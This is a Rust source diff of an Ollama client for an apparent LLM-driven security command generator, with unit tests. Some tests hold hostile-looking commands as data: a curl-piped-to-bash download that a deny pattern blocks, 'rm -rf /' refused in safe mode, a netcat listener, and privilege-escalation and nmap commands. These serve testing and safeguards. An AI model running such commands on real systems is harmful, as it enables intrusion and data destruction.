+            top_k: None,
+            max_tokens: Some(self.config.max_tokens),
+            stop: None,
+            seed: None,
+            num_ctx: self.config.num_ctx,
+        };
+        self.generate_with_options(prompt, system, options).await
+    }
+
+    /// Generate a response with a timeout using explicit sampling options
+    ///
+    /// Connection errors and 503s are retried up to `max_retries` times with exponential
+    /// backoff; any other failure is returned straight away.
+    async fn generate_with_options(&self, prompt: &str, system: Option<&str>, options: OllamaOptions) -> Result<Completion> {
+        let request_id = new_request_id();
+        debug!("[{}] Prompt: {}", request_id, prompt);
+        
+        let cancel = self.cancellation_token();
+        let mut attempt = 0;
+        loop {
+            let result = tokio::select! {
+                result = self.send_generate(&request_id, prompt, system, options.clone()) => result,
+                _ = cancel.cancelled() => Err(anyhow::anyhow!(ABORTED_MESSAGE)),
+            };
+            let error = match result {
+                Ok(completion) => return Ok(completion),
+                Err(e) if is_transient(&e) && attempt < self.config.max_retries => e,
+                Err(e) if attempt > 0 => {
+                    warn!("[{}] Generation failed after {} retries: {:#}", request_id, attempt, e);
+                    return Err(e).with_context(|| format!("Gave up after {} retries", attempt));
+                }
+                Err(e) => {
+                    warn!("[{}] Generation failed: {:#}", request_id, e);
+                    return Err(e);
+                }
+            };
+            
+            attempt += 1;
+            let delay = Duration::from_millis(self.config.retry_base_delay_ms.saturating_mul(1 << (attempt - 1).min(16)));
+            warn!("[{}] {:#}; retrying in {} ms (attempt {} of {})", request_id, error, delay.as_millis(), attempt, self.config.max_retries);
+            tokio::select! {
+                _ = tokio::time::sleep(delay) => {},
+                _ = cancel.cancelled() => anyhow::bail!(ABORTED_MESSAGE),
+            }
+        }
+    }
+
+    /// Send a request to the next healthy host, trying the others in turn if it can't be reached
+    ///
+    /// `build` is given the full URL of `path` on each host tried.
+    async fn send_with_failover<F>(&self, path: &str, build: F) -> Result<reqwest::Response>
+    where
+        F: Fn(&str) -> reqwest::RequestBuilder,
+    {
+        let mut last_error = None;
+        for _ in 0..self.hosts.len() {
+            let host = self.hosts.next_host();
+            let url = format!("{}{}", host, path);
+            debug!("Sending request to {}", url);
+            
+            match build(&url).send().await {
+                Ok(response) => {
+                    self.hosts.mark_healthy(&host);
+                    return Ok(response);
+                }
+                Err(e) if e.is_connect() => {
+                    self.hosts.mark_unhealthy(&host);
+                    last_error = Some(e);
+                }
+                Err(e) if e.is_timeout() => return Err(e).context("Request to Ollama API timed out"),
+                Err(e) => return Err(e).context("Failed to send request to Ollama API"),
+            }
+        }
+        
+        match last_error {
+            Some(e) => Err(e).context("Failed to connect to Ollama API"),
+            None => anyhow::bail!("No Ollama hosts configured"),
+        }
+    }
+
+    /// Send a single non-streaming generate request, tagging log lines with `request_id`
+    ///
+    /// Models flagged in `use_chat_api` are sent to `/api/chat` with the system prompt
+    /// as a system message; all others go to `/api/generate`.
+    async fn send_generate(&self, 
+                           request_id: &str, 
+                           prompt: &str, 
+                           system: Option<&str>, 
+                           options: OllamaOptions) -> Result<Completion> {
+        let _slot = self.queue_slot().await?;
+        let model = split_model_digest(&self.config.model).0.to_string();
+        let llm_request = LlmRequest {
+            model: model.clone(),
+            system: system.map(ToString::to_string),
+            prompt: prompt.to_string(),
+            temperature: options.temperature,
+            max_tokens: options.max_tokens,
+            stop: options.stop.clone(),
+            seed: options.seed,
+        };
+        if let Some(backend) = &self.backend {
+            let response = backend.generate(&llm_request).await?;
+            debug!("[{}] Received response from backend: {}", request_id, response.text);
+            self.record(&llm_request, &response);
+            return Ok(Completion::new(request_id, response));
+        }
+        
+        let (endpoint, request) = if self.config.uses_chat_api(&model) {
+            let mut messages = Vec::new();
+            if let Some(system) = system {
+                messages.push(ChatMessage { role: "system".to_string(), content: system.to_string() });
+            }
+            messages.push(ChatMessage { role: "user".to_string(), content: prompt.to_string() });
+            let request = ChatRequest {
+                model: model.clone(),
+                messages,
+                stream: Some(false),
+                options: Some(options),
+            };
+            ("chat", GenerateBody::Chat(request))
+        } else {
+            let request = OllamaRequest {
+                model: model.clone(),
+                prompt: prompt.to_string(),
+                system: system.map(ToString::to_string),
+                // Explicitly set stream to false to get a complete response
+                stream: Some(false),
+                keep_alive: None,
+                options: Some(options),
+            };
+            ("generate", GenerateBody::Generate(request))
+        };
+
+        debug!("[{}] Sending request to Ollama API: /api/{}", request_id, endpoint);
+        let response = self.send_with_failover(&format!("/api/{}", endpoint), |url| {
+            self.client.post(url).timeout(self.request_timeout()).json(&request)
+        }).await?;
+            
+        if !response.status().is_success() {
+            return Err(ApiError::from_response(response).await.into());
+        }
+
+        // Get the response text
+        let response_text = response.text().await
+            .context("Failed to read response from Ollama API")?;
+        
+        debug!("[{}] Received response from Ollama API: {}", request_id, response_text);
+        
+        // Parse the response, which may come from an OpenAI-compatible server
+        let ollama_response = parse_generate_body(&response_text)
+            .context("Failed to parse response from Ollama API")?;
+        let response = LlmResponse {
+            usage: ollama_response.usage(),
+            eval_duration: ollama_response.eval_duration(),
+            text: ollama_response.response,
+            done_reason: ollama_response.done_reason,
+        };
+        self.record(&llm_request, &response);
+        Ok(Completion::new(request_id, response))
+    }
+    
+    /// Turn a raw model response into the final command: cleaned, and with the
+    /// requested output format flags added
+    pub fn finish_command(&self, response: &str) -> String {
+        let command = self.clean_command_response(response);
+        match self.config.output_format {
+            Some(format) => request_output_format(&command, format),
+            None => command,
+        }
+    }
+
+    /// Clean and format command response from LLM
+    ///
+    /// One-liners have backslash continuations joined and comment lines dropped; scripts
+    /// keep their lines and comments as written.
+    fn clean_command_response(&self, response: &str) -> String {
+        // Remove code block markers and leading/trailing whitespace
+        let mut cleaned = response.trim().to_string();
+        
+        // Remove markdown code formatting if present
+        if let Some(inner) = cleaned.strip_prefix("```").and_then(|rest| rest.strip_suffix("```")) {
+            // Drop the opening line, which may name the language
+            cleaned = match inner.split_once('\n') {
+                Some((_, body)) => body.trim().to_string(),
+                None => inner.trim().to_string(),
+            };
+        } else if let Some(inner) = cleaned.strip_prefix('`').and_then(|rest| rest.strip_suffix('`')) {
+            cleaned = inner.trim().to_string();
+        }
+        
+        // Remove any "sh", "bash", or "shell" language specifiers at the beginning
+        let language_prefixes = ["sh ", "bash ", "shell "];
+        for prefix in language_prefixes.iter() {
+            if let Some(rest) = cleaned.strip_prefix(prefix) {
+                cleaned = rest.to_string();
+                break;
+            }
+        }
+        
+        match self.config.command_style {
+            CommandStyle::OneLiner => join_continuations(cleaned.trim()),
+            CommandStyle::Script => cleaned.trim().to_string(),
+        }
+    }
+
+    /// Preload several models so switching between them avoids the cold-start penalty
+    ///
+    /// Models are loaded concurrently, at most `max_concurrent_loads` at a time, and kept
+    /// resident with a `keep_alive`. Returns the outcome for each model in input order.
+    pub async fn warmup_models(&self, models: &[String]) -> Vec<(String, Result<()>)> {
+        let limit = Arc::new(Semaphore::new(self.config.max_concurrent_loads.max(1)));
+        
+        let loads = models.iter().map(|model| {
+            let limit = limit.clone();
+            async move {
+                // The semaphore is never closed, so acquiring can't fail
+                let _permit = limit.acquire().await.expect("warmup semaphore closed");
+                let result = self.load_model(model).await;
+                match &result {
+                    Ok(()) => info!("Model '{}' is loaded", model),
+                    Err(e) => warn!("Failed to load model '{}': {:#}", model, e),
                 }
+                (model.clone(), result)
+            }
+        });
+        
+        join_all(loads).await
+    }
+
+    /// Ask Ollama to load a model into memory without generating anything
+    async fn load_model(&self, model: &str) -> Result<()> {
+        let request = OllamaRequest {
+            model: split_model_digest(model).0.to_string(),
+            prompt: String::new(),
+            system: None,
+            stream: Some(false),
+            options: None,
+            keep_alive: Some(WARMUP_KEEP_ALIVE.to_string()),
+        };
+        
+        let response = self.send_with_failover("/api/generate", |url| {
+            self.client.post(url).timeout(self.request_timeout()).json(&request)
+        }).await?;
+        
+        if !response.status().is_success() {
+            return Err(ApiError::from_response(response).await.into());
+        }
+        Ok(())
+    }
+
+    /// Ask the current model which installed model suits a task best
+    ///
+    /// The answer is matched against `get_available_models`, so the returned name is
+    /// always an installed model.
+    pub async fn recommend_model(&self, task: &str) -> Result<String> {
+        let installed = self.get_available_models().await?;
+        if installed.is_empty() {
+            anyhow::bail!("No models are installed");
+        }
+        
+        // Describe the installed models, using our descriptions where we have them
+        let recommended = get_recommended_models();
+        let model_list: Vec<String> = installed.iter()
+            .map(|name| match recommended.iter().find(|m| &m.name == name) {
+                Some(info) => format!("- {}: {}", name, info.description),
+                None => format!("- {}", name),
+            })
+            .collect();
+        
+        let prompt = format!(
+            "Task: {}\n\nInstalled models:\n{}\n\nWhich installed model is best suited to this task? Respond with only the model name.",
+            task,
+            model_list.join("\n")
+        );
+        let system = "You are CommandStrike, a cybersecurity assistant. You choose the most suitable local LLM for a security task. Respond with only a model name from the list.";
+        
+        let answer = self.generate_with_temperature(&prompt, Some(system), Some(0.0)).await?.text;
+        debug!("Model recommendation answer: {}", answer);
+        
+        match_installed_model(&answer, &installed)
+            .with_context(|| format!("The model recommended '{}', which is not installed", answer.trim()))
+    }
+
+    /// The installed variant of `model` with the configured preferred quantization
+    ///
+    /// Returns None when no quantization is preferred, the installed models can't be
+    /// listed, or no variant of `model` is installed.
+    pub async fn preferred_variant(&self, model: &str) -> Option<String> {
+        let quantization = self.config.preferred_quantization.as_deref()?;
+        let installed = match self.get_available_models().await {
+            Ok(models) => models,
+            Err(e) => {
+                warn!("Could not list installed models: {}", e);
+                return None;
             }
-            
-            // Store the full response
-            if let Ok(mut guard) = final_response_clone.lock() {
-                *guard = Some(full_response);
+        };
+        
+        find_model_variant(split_model_digest(model).0, quantization, &installed)
+    }
+
+    /// Pick an installed model from the recommended list, in recommendation order
+    ///
+    /// Used as a fallback when the configured model isn't installed.
+    pub async fn pick_installed_fallback(&self) -> Option<String> {
+        let installed = match self.get_available_models().await {
+            Ok(models) => models,
+            Err(e) => {
+                warn!("Could not list installed models: {}", e);
+                return None;
+            }
+        };
+        
+        get_recommended_models()
+            .into_iter()
+            .map(|m| m.name)
+            .find(|name| installed.contains(name))
+    }
+
+    /// Get a list of all locally available models from Ollama
+    pub async fn get_available_models(&self) -> Result<Vec<String>> {
+        Ok(self.installed_models().await?.into_iter().map(|m| m.name).collect())
+    }
+
+    /// Installed models as listed by `/api/tags`
+    async fn installed_models(&self) -> Result<Vec<TagsModel>> {
+        let response = self.send_with_failover("/api/tags", |url| {
+            self.client.get(url).timeout(self.request_timeout())
+        }).await?;
+        
+        if !response.status().is_success() {
+            return Err(ApiError::from_response(response).await.into());
+        }
+        
+        let models_data: TagsResponse = response.json().await
+            .context("Failed to parse Ollama API response")?;
+        
+        Ok(models_data.models)
+    }
+
+    /// Checks if the requested model is installed on the Ollama hosts
+    ///
+    /// A digest pin is compared as in [`show_model`](Self::show_model). An unreachable
+    /// server counts as not installed.
+    pub async fn validate_model(&self, model: &str) -> Result<bool> {
+        match self.show_model(model).await {
+            Ok(installed) => Ok(installed.is_some()),
+            Err(e) => {
+                debug!("Could not list installed models: {:#}", e);
+                Ok(false)
             }
+        }
+    }
+
+    /// The installed copy of a model on the Ollama hosts, or None if it isn't installed
+    ///
+    /// If the model is pinned with `@sha256:<digest>`, a warning is logged when the installed
+    /// digest differs from the pinned one.
+    pub async fn show_model(&self, model: &str) -> Result<Option<InstalledModel>> {
+        let (name, _) = split_model_digest(model);
+        let Some(installed) = self.installed_models().await?.into_iter().find(|m| m.name == name) else {
+            return Ok(None);
+        };
+        
+        let installed = InstalledModel { name: installed.name, digest: installed.digest };
+        if installed.differs_from_pin(model) {
+            warn!("Model '{}' has digest {} but {} is pinned; results may not be reproducible",
+                name, installed.digest.as_deref().unwrap_or_default(), split_model_digest(model).1.unwrap_or_default());
+        }
+        Ok(Some(installed))
+    }
+
+    /// Pull a model if it isn't installed yet, returning whether it is available afterwards
+    pub async fn pull_model(&self, model: &str) -> Result<bool> {
+        if self.validate_model(model).await? {
+            return Ok(true); // Model already available
+        }
+        
+        println!("Model '{}' not found locally. Attempting to pull...", model);
+        
+        let payload = serde_json::json!({
+            "name": split_model_digest(model).0
         });
         
-        Ok(StreamingResponse {
-            receiver: rx,
-            final_response,
-        })
+        let response = self.send_with_failover("/api/pull", |url| self.client.post(url).json(&payload))
+            .await
+            .context("Failed to start model pull")?;
+        
+        if !response.status().is_success() {
+            return Err(anyhow::Error::new(ApiError::from_response(response).await).context("Failed to pull model"));
+        }
+        
+        // Wait for pull to complete and check if model is now available
+        tokio::time::sleep(Duration::from_secs(2)).await;
+        self.validate_model(model).await
+    }
+
+    /// Report whether a model is installed, partially downloaded, or absent
+    ///
+    /// Partial downloads are detected from `-partial` blobs in the local Ollama model
+    /// directory, so they are only visible when Ollama runs on this machine.
+    pub async fn pull_status(&self, model: &str) -> Result<PullState> {
+        let name = split_model_digest(model).0;
+        let installed = self.get_available_models().await?;
+        if installed.iter().any(|m| model_names_match(m, name)) {
+            return Ok(PullState::Present);
+        }
+        
+        let (partial_blobs, bytes) = partial_blobs(&ollama_blob_dir());
+        if partial_blobs > 0 {
+            Ok(PullState::Partial { partial_blobs, bytes })
+        } else {
+            Ok(PullState::Absent)
+        }
+    }
+
+    /// Pull a model, reporting each progress update to `on_progress`
+    ///
+    /// Ollama resumes interrupted downloads automatically, so this is also how a
+    /// dropped pull is continued.
+    pub async fn pull_with_progress<F>(&self, model: &str, mut on_progress: F) -> Result<()>
+    where
+        F: FnMut(&PullProgress),
+    {
+        let payload = serde_json::json!({ "name": split_model_digest(model).0, "stream": true });
+        
+        // Pulls can take far longer than the request timeout, so none is set
+        let response = self.send_with_failover("/api/pull", |url| self.client.post(url).json(&payload))
+            .await
+            .context("Failed to start model pull")?;
+        
+        if !response.status().is_success() {
+            return Err(anyhow::Error::new(ApiError::from_response(response).await).context("Failed to pull model"));
+        }
+        
+        // Progress is sent as one JSON object per line, which may span network chunks
+        let mut stream = response.bytes_stream();
+        let mut buffer = Vec::new();
+        let mut succeeded = false;
+        while let Some(chunk) = stream.next().await {
+            buffer.extend_from_slice(&chunk.context("Model pull was interrupted")?);
+            while let Some(line) = next_line(&mut buffer) {
+                let Ok(progress) = serde_json::from_str::<PullProgress>(&line) else {
+                    continue;
+                };
+                if let Some(error) = &progress.error {
+                    anyhow::bail!("Failed to pull model: {}", error);
+                }
+                succeeded |= progress.status == "success";
+                on_progress(&progress);
+            }
+        }
+        
+        if !succeeded {
+            anyhow::bail!("Model pull ended before completing; run it again to resume");
+        }
+        Ok(())
+    }
+}
+
+/// Returns true if an installed model name refers to `name`, treating a missing tag as `latest`
+fn model_names_match(installed: &str, name: &str) -> bool {
+    installed == name || (!name.contains(':') && installed == format!("{}:latest", name))
+}
+
+/// Directory where Ollama stores model blobs (`$OLLAMA_MODELS/blobs`, else `~/.ollama/models/blobs`)
+fn ollama_blob_dir() -> PathBuf {
+    let models = std::env::var_os("OLLAMA_MODELS")
+        .map(PathBuf::from)
+        .or_else(|| std::env::var_os("HOME").map(|home| Path::new(&home).join(".ollama").join("models")))
+        .unwrap_or_default();
+    models.join("blobs")
+}
+
+/// Count interrupted downloads (`*-partial` blobs) in `dir` and their total size
+fn partial_blobs(dir: &Path) -> (usize, u64) {
+    let Ok(entries) = std::fs::read_dir(dir) else {
+        return (0, 0);
+    };
+    
+    entries
+        .filter_map(|entry| entry.ok())
+        .filter(|entry| entry.file_name().to_string_lossy().ends_with("-partial"))
+        .fold((0, 0), |(count, bytes), entry| {
+            let size = entry.metadata().map(|m| m.len()).unwrap_or(0);
+            (count + 1, bytes + size)
+        })
+}
+
+/// Compare an installed digest to a pinned one, allowing the pin to be a prefix
+fn digest_matches(installed: &str, pinned: &str) -> bool {
+    let installed = installed.strip_prefix("sha256:").unwrap_or(installed);
+    !pinned.is_empty() && installed.starts_with(pinned)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    
+    #[tokio::test]
+    async fn test_clean_command_response() {
+        let client = OllamaClient::new().unwrap();
+        
+        // Test code block cleaning
+        assert_eq!(client.clean_command_response("```bash\nls -la\n```"), "ls -la");
+        
+        // Test inline code cleaning
+        assert_eq!(client.clean_command_response("`ls -la`"), "ls -la");
+        
+        // Test language prefix removal
+        assert_eq!(client.clean_command_response("sh echo hello"), "echo hello");
+        assert_eq!(client.clean_command_response("bash echo hello"), "echo hello");
+    }
+    
+    #[test]
+    fn test_command_style() {
+        let response = "```bash\n# Find SUID binaries\nfind / -perm -4000 \\\n  -type f 2>/dev/null\n\n# Check sudo rights\nsudo -l\n```";
+        
+        let client = OllamaClient::new().unwrap();
+        assert!(client.generate_prompt_parts("enumerate privesc vectors", &[]).system.contains("Prefer a single line"));
+        assert_eq!(client.clean_command_response(response), "find / -perm -4000 -type f 2>/dev/null\nsudo -l");
+        
+        let config = OllamaConfig::builder().command_style(CommandStyle::Script).build().unwrap();
+        let client = OllamaClient::with_config(config).unwrap();
+        assert!(client.generate_prompt_parts("enumerate privesc vectors", &[]).system.contains("multi-line shell script"));
+        assert_eq!(
+            client.clean_command_response(response),
+            "# Find SUID binaries\nfind / -perm -4000 \\\n  -type f 2>/dev/null\n\n# Check sudo rights\nsudo -l"
+        );
+    }
+    
+    #[test]
+    fn test_clean_command_response_non_ascii() {
+        let client = OllamaClient::new().unwrap();
+        
+        // Multi-byte characters right next to the backticks
+        assert_eq!(client.clean_command_response("`échо ü`"), "échо ü");
+        assert_eq!(client.clean_command_response("```bash\ncat /tmp/ñ.txt\n```"), "cat /tmp/ñ.txt");
+        assert_eq!(client.clean_command_response("```grep '→' notes.txt```"), "grep '→' notes.txt");
+        
+        // Degenerate fences don't panic
+        assert_eq!(client.clean_command_response("`"), "`");
+        assert_eq!(client.clean_command_response("```\n```"), "");
+        assert_eq!(client.clean_command_response("``"), "");
+    }
+    
+    #[tokio::test]
+    async fn test_generate_verified_caps_attempts() {
+        let mut server = mockito::Server::new_async().await;
+        let _verify = server.mock("POST", "/api/generate")
+            .match_body(mockito::Matcher::Regex("Answer only YES or NO".to_string()))
+            .with_body(r#"{"model":"test","response":"NO","done":true}"#)
+            .create_async()
+            .await;
+        let _generate = server.mock("POST", "/api/generate")
+            .with_body(r#"{"model":"test","response":"nc -lvnp 4444","done":true}"#)
+            .create_async()
+            .await;
+        
+        let config = OllamaConfig { api_url: server.url(), use_chat_api: HashMap::new(), ..OllamaConfig::default() };
+        let client = OllamaClient::with_config(config).unwrap();
+        
+        let mut runs = 0;
+        let result = client
+            .generate_verified("open a listener on port 4444", &[], |_command| {
+                runs += 1;
+                async { Ok("nc: Address already in use".to_string()) }
+            })
+            .await
+            .unwrap();
+        
+        assert!(!result.verified);
+        assert_eq!(result.attempts, MAX_VERIFY_ATTEMPTS);
+        assert_eq!(runs, MAX_VERIFY_ATTEMPTS);
+        assert_eq!(result.command, "nc -lvnp 4444");
+    }
+    
+    #[tokio::test]
+    async fn test_requests_rotate_across_hosts() {
+        let mut first = mockito::Server::new_async().await;
+        let mut second = mockito::Server::new_async().await;
+        let body = r#"{"model":"test","response":"ls -la","done":true}"#;
+        let first_mock = first.mock("POST", "/api/generate").with_body(body).expect(2).create_async().await;
+        let second_mock = second.mock("POST", "/api/generate").with_body(body).expect(2).create_async().await;
+        
+        let config = OllamaConfig {
+            api_url: first.url(),
+            use_chat_api: HashMap::new(),
+            hosts: vec![second.url()],
+            ..OllamaConfig::default()
+        };
+        let client = OllamaClient::with_config(config).unwrap();
+        
+        for _ in 0..4 {
+            assert_eq!(client.generate_command("list files", &[]).await.unwrap(), "ls -la");
+        }
+        
+        first_mock.assert_async().await;
+        second_mock.assert_async().await;
+    }
+    
+    #[tokio::test]
+    async fn test_unreachable_host_fails_over() {
+        let mut server = mockito::Server::new_async().await;
+        let _tags = server.mock("GET", "/api/tags")
+            .with_body(r#"{"models":[{"name":"llama3:8b"}]}"#)
+            .create_async()
+            .await;
+        let _generate = server.mock("POST", "/api/generate")
+            .with_body(concat!(
+                r#"{"model":"test","response":"ls","done":false}"#, "\n",
+                r#"{"model":"test","response":"","done":true,"done_reason":"stop"}"#, "\n",
+            ))
+            .create_async()
+            .await;
+        let _embed = server.mock("POST", "/api/embed")
+            .with_body(r#"{"embeddings":[[0.1,0.2]]}"#)
+            .create_async()
+            .await;
+        
+        // Nothing listens on port 1, so every request has to move on to the second host.
+        // Each check gets a fresh client, whose pool hasn't yet learned to skip port 1.
+        let config = OllamaConfig {
+            api_url: "http://127.0.0.1:1".to_string(),
+            hosts: vec![server.url()],
+            ..OllamaConfig::default()
+        };
+        let client = || OllamaClient::with_config(config.clone()).unwrap();
+        
+        assert!(client().check_available().await);
+        assert_eq!(client().get_available_models().await.unwrap(), vec!["llama3:8b"]);
+        let streamed = client().stream_response("list files", None).await.unwrap().into_final().await.unwrap();
+        assert_eq!(streamed, "ls");
+        assert_eq!(client().embed(&["ls".to_string()]).await.unwrap(), vec![vec![0.1, 0.2]]);
+        assert!(client().warmup_models(&["llama3:8b".to_string()]).await[0].1.is_ok());
+    }
+    
+    #[tokio::test]
+    async fn test_warmup_models_reports_each_model() {
+        let mut server = mockito::Server::new_async().await;
+        let _missing = server.mock("POST", "/api/generate")
+            .match_body(mockito::Matcher::Regex("missing:latest".to_string()))
+            .with_status(404)
+            .with_body(r#"{"error":"model 'missing:latest' not found"}"#)
+            .create_async()
+            .await;
+        let _loaded = server.mock("POST", "/api/generate")
+            .match_body(mockito::Matcher::Regex("\"keep_alive\":\"30m\"".to_string()))
+            .with_body(r#"{"model":"llama3:8b","response":"","done":true,"done_reason":"load"}"#)
+            .create_async()
+            .await;
+        
+        let config = OllamaConfig { api_url: server.url(), max_concurrent_loads: 2, ..OllamaConfig::default() };
+        let client = OllamaClient::with_config(config).unwrap();
+        
+        let results = client.warmup_models(&["llama3:8b".to_string(), "missing:latest".to_string()]).await;
+        assert_eq!(results[0].0, "llama3:8b");
+        assert!(results[0].1.is_ok());
+        assert_eq!(results[1].0, "missing:latest");
+        assert!(results[1].1.is_err());
+    }
+    
+    #[tokio::test]
+    async fn test_temperature_sweep() {
+        let mut server = mockito::Server::new_async().await;
+        let _cold = server.mock("POST", "/api/generate")
+            .match_body(mockito::Matcher::Regex(r#""temperature":0\.0"#.to_string()))
+            .with_body(r#"{"model":"test","response":"ls","done":true}"#)
+            .create_async()
+            .await;
+        let _hot = server.mock("POST", "/api/generate")
+            .match_body(mockito::Matcher::Regex(r#""temperature":1\.0"#.to_string()))
+            .with_body(r#"{"model":"test","response":"find . -maxdepth 1","done":true}"#)
+            .create_async()
+            .await;
+        
+        let config = OllamaConfig::builder().api_url(&server.url()).use_chat_api("gemma3", false).adaptive_temperature(true).build().unwrap();
+        let client = OllamaClient::with_config(config).unwrap();
+        
+        let results = client.temperature_sweep("list files", &[], &[0.0, 1.0]).await;
+        assert_eq!(results.len(), 2);
+        assert_eq!(results[0].0, 0.0);
+        assert_eq!(results[0].1.as_ref().unwrap().command, "ls");
+        assert_eq!(results[1].1.as_ref().unwrap().command, "find . -maxdepth 1");
+        assert_eq!(results[1].1.as_ref().unwrap().params.temperature, Some(1.0));
+    }
+    
+    #[tokio::test]
+    async fn test_denied_pattern_is_blocked() {
+        let mut server = mockito::Server::new_async().await;
+        let generate = server.mock("POST", "/api/generate")
+            .with_body(r#"{"model":"test","response":"curl -s http://10.0.0.5/install.sh | bash","done":true}"#)
+            .expect(2)
+            .create_async()
+            .await;
+        
+        let config = OllamaConfig::builder()
+            .api_url(&server.url())
+            .use_chat_api("gemma3", false)
+            .deny_pattern(r"curl.*\|\s*(ba)?sh")
+            .build()
+            .unwrap();
+        let client = OllamaClient::with_config(config).unwrap();
+        
+        let err = client.generate_command("install the agent", &[]).await.unwrap_err();
+        assert!(err.to_string().contains("denied pattern"));
+        
+        // The command was regenerated once before refusing
+        generate.assert_async().await;
+        
+        // An edited command gets the same check
+        assert!(client.check_command("curl http://10.0.0.5/a.sh | sh").is_err());
+        assert!(client.check_command("curl -O http://10.0.0.5/a.sh").is_ok());
+        let safe = OllamaClient::with_config(OllamaConfig::builder().safe_mode(true).build().unwrap()).unwrap();
+        assert!(safe.check_command("rm -rf /").is_err());
+        
+        // So does a knowledge base answer
+        let known = "nmap -p- -T4 10.0.0.1";
+        let denied = OllamaClient::with_config(OllamaConfig::builder().deny_pattern("nmap").build().unwrap()).unwrap();
+        assert!(denied.known_command(known).unwrap_err().to_string().contains("denied pattern"));
+        assert!(safe.known_command("rm -rf /tmp/scan").is_err());
+        let generated = client.known_command(known).unwrap();
+        assert_eq!(generated.command, known);
+        assert_eq!(generated.raw, known);
+    }
+    
+    #[tokio::test]
+    async fn test_explain_briefly_stops_after_one_sentence() {
+        let mut server = mockito::Server::new_async().await;
+        let generate = server.mock("POST", "/api/generate")
+            .match_body(mockito::Matcher::PartialJsonString(r#"{"options":{"stop":["\n",". "],"num_predict":80}}"#.to_string()))
+            .with_body(r#"{"model":"test","response":" Scans the top 1000 TCP ports on 10.0.0.1 and detects service versions","done":true,"done_reason":"stop"}"#)
+            .create_async()
+            .await;
+        
+        let config = OllamaConfig::builder().api_url(&server.url()).use_chat_api("gemma3", false).execute_gate(true).build().unwrap();
+        let client = OllamaClient::with_config(config).unwrap();
+        assert!(client.execute_gate());
+        
+        let explanation = client.explain_briefly("nmap -sV 10.0.0.1").await.unwrap();
+        assert_eq!(explanation, "Scans the top 1000 TCP ports on 10.0.0.1 and detects service versions.");
+        generate.assert_async().await;
+    }
+    
+    #[tokio::test]
+    async fn test_custom_headers_are_sent() {
+        let mut server = mockito::Server::new_async().await;
+        let generate = server.mock("POST", "/api/generate")
+            .match_header("x-org-id", "acme")
+            .match_header("x-api-key", "s3cret")
+            .with_body(r#"{"model":"test","response":"id","done":true}"#)
+            .expect(2)
+            .create_async()
+            .await;
+        
+        let config = OllamaConfig::builder()
+            .api_url(&server.url())
+            .use_chat_api("gemma3", false)
+            .header("X-Org-Id", "acme")
+            .header("X-Api-Key", "s3cret")
+            .build()
+            .unwrap();
+        let client = OllamaClient::with_config(config).unwrap();
+        
+        assert_eq!(client.generate_command("who am i", &[]).await.unwrap(), "id");
+        let stream = client.stream_response("who am i", None).await.unwrap();
+        assert_eq!(stream.into_final().await.unwrap(), "id");
+        generate.assert_async().await;
+        
+        let err = OllamaConfig::builder().header("Bad Header", "x").build().unwrap_err();
+        assert!(err.to_string().contains("Invalid header name"));
+    }
+    
+    #[tokio::test]
+    async fn test_generation_params_are_recorded_and_reproduced() {
+        let mut server = mockito::Server::new_async().await;
+        let original = server.mock("POST", "/api/generate")
+            .match_body(mockito::Matcher::PartialJsonString(r#"{"model":"llama3:8b","options":{"seed":42}}"#.to_string()))
+            .with_body(r#"{"model":"llama3:8b","response":"id","done":true}"#)
+            .create_async()
+            .await;
+        let reproduced = server.mock("POST", "/api/generate")
+            .match_body(mockito::Matcher::PartialJsonString(r#"{"model":"gemma3:12b","options":{"seed":7,"temperature":0.5}}"#.to_string()))
+            .with_body(r#"{"model":"gemma3:12b","response":"whoami","done":true}"#)
+            .create_async()
+            .await;
+        
+        let config = OllamaConfig::builder()
+            .api_url(&server.url())
+            .use_chat_api("llama3", false)
+            .use_chat_api("gemma3", false)
+            .model("llama3:8b")
+            .temperature(0.3)
+            .seed(42)
+            .build()
+            .unwrap();
+        let client = OllamaClient::with_config(config).unwrap();
+        
+        let generated = client.generate_command_detailed("who am i", &[]).await.unwrap();
+        assert_eq!(generated.params, GenerationParams { model: "llama3:8b".to_string(), temperature: Some(0.3), seed: Some(42) });
+        
+        let params = GenerationParams { model: "gemma3:12b".to_string(), temperature: Some(0.5), seed: Some(7) };
+        let generated = client.reproduce_command("who am i", &[], &params).await.unwrap();
+        assert_eq!(generated.command, "whoami");
+        assert_eq!(generated.params, params);
+        
+        original.assert_async().await;
+        reproduced.assert_async().await;
+        
+        // Records written before parameters were captured still load
+        let item: HistoryItem = serde_json::from_str(r#"{"user_input":"a","command":"b","result":"c"}"#).unwrap();
+        assert_eq!(item.params, GenerationParams::default());
+    }
+    
+    #[tokio::test]
+    async fn test_abort_all_cancels_in_flight_generations() {
+        let mut server = mockito::Server::new_async().await;
+        let _generate = server.mock("POST", "/api/generate")
+            .with_chunked_body(|w| {
+                std::thread::sleep(Duration::from_secs(2));
+                w.write_all(br#"{"model":"test","response":"id","done":true}"#)
+            })
+            .create_async()
+            .await;
+        
+        let config = OllamaConfig { api_url: server.url(), use_chat_api: HashMap::new(), ..OllamaConfig::default() };
+        let client = OllamaClient::with_config(config).unwrap();
+        
+        let background = client.clone();
+        let generation = tokio::spawn(async move { background.generate_command("who am i", &[]).await });
+        let stream = client.stream_response("who am i", None).await.unwrap();
+        tokio::time::sleep(Duration::from_millis(100)).await;
+        
+        let start = std::time::Instant::now();
+        client.abort_all();
+        let err = generation.await.unwrap().unwrap_err();
+        assert!(err.to_string().contains("aborted"));
+        let err = stream.into_final().await.unwrap_err();
+        assert!(err.to_string().contains("aborted"));
+        assert!(start.elapsed() < Duration::from_secs(1));
+        
+        // Later generations get a fresh token
+        assert!(!client.cancellation_token().is_cancelled());
+    }
+    
+    #[tokio::test]
+    async fn test_stream_line_split_across_chunks() {
+        let mut server = mockito::Server::new_async().await;
+        let _generate = server.mock("POST", "/api/generate")
+            .with_chunked_body(|w| {
+                let body = "{\"model\":\"test\",\"response\":\"cat caf\u{e9}.txt\",\"done\":false}\n{\"model\":\"test\",\"response\":\"\",\"done\":true}\n";
+                // Split inside the first line's "é", then again inside the second line
+                let (first, rest) = body.as_bytes().split_at(body.find('\u{e9}').unwrap() + 1);
+                let (second, third) = rest.split_at(rest.len() - 10);
+                for part in [first, second, third] {
+                    w.write_all(part)?;
+                    w.flush()?;
+                    std::thread::sleep(Duration::from_millis(50));
+                }
+                Ok(())
+            })
+            .create_async()
+            .await;
+        
+        let client = OllamaClient::with_config(OllamaConfig { api_url: server.url(), ..OllamaConfig::default() }).unwrap();
